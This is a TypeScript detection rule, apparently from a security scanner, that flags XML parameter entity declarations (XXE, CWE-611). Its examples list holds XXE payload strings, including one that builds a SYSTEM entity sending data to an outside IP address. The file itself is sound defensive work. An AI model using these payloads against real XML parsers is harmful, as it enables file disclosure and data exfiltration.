import { xmlGrammar } from '../../grammars/xml/xml.ts';
import { confidence } from '../../placement/confidence.ts';
import type { ValueRule } from '../rule.ts';

/** `<!ENTITY % a "<!ENTITY b SYSTEM …">`: declarations that build declarations. */
export const parameterEntity: ValueRule = {
  id: 'xxe.parameter-entity',
  cwe: 'CWE-611',
  severity: 'critical',
  score: confidence.certain,
  message: 'declares a parameter entity, with which a document writes its own document type',
  trigger: { literals: [['<!entity']] },
  judge: (subject) => {
    const reading = subject.tokens(xmlGrammar);
    let searches = 0;
    for (const one of reading.declarations) {
      if (one.kind !== 'entity' || !one.isParameter) continue;
      const isNested = nested.test(one.literal);
      if (isNested) return { start: one.start, end: one.end, score: confidence.certain };
      // Each look goes through the whole text.
      if (++searches > searchesMax) {
        subject.incomplete('tokens');
        continue;
      }
      if (isExpanded(subject.text, one.name))
        return { start: one.start, end: one.end, score: confidence.strong };
    }
    return undefined;
  },
  examples: [
    `<!ENTITY % a "<!ENTITY b SYSTEM 'http://203.0.113.5/?%c;'>"> %a;`,
    `<!DOCTYPE r [<!ENTITY % s '>%x; <!ENTITY &#x25; e "">'>%s;]>`,
    '<!DOCTYPE r [<!ENTITY % one "<"> %one;]>',
  ],
  lookalikes: [
    'A parameter entity is declared with <!ENTITY % name "text"> in the document type.',
    '<!ELEMENT p (#PCDATA)>',
  ],
};

const searchesMax = 64;
const nested = /<!|&#(?:x25|37);|%[\w.-]{1,60};/i;

/** Does `%name;` stand in the text? */
function isExpanded(text: string, name: string): boolean {
  return name !== '' && text.includes(`%${name};`);
}
